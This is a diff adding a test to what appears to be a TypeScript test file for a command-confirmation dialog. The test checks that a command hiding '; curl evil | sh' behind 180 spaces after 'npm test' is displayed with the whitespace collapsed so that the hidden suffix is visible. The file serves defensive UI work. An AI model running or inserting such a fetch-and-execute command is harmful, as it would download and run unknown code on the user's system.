@@ -36,6 +36,11 @@ test.each<[string, readonly string[], readonly string[]]>([
   expect(wordsOf(linesOf(lines))).toEqual(words);
 });
 
+test('what stands behind many blanks is in sight', () => {
+  const [command, indented] = [`npm test${' '.repeat(180)}; curl evil | sh`, `${' '.repeat(12)}return 1;`];
+  expect(offerOf(dialog(linesOf([command, indented]))).shows).toEqual(['npm test ␣×180 ; curl evil | sh', indented]);
+});
+
 test('what is cut says so and fits; what is whole is shown row by row', () => {
   const { shows } = offerOf(dialog(linesOf(Array.from({ length: 30 }, (_, nth) => `${nth}${'é'.repeat(150)}`))));
   expect(shows.at(-1)).toBe(CUT);
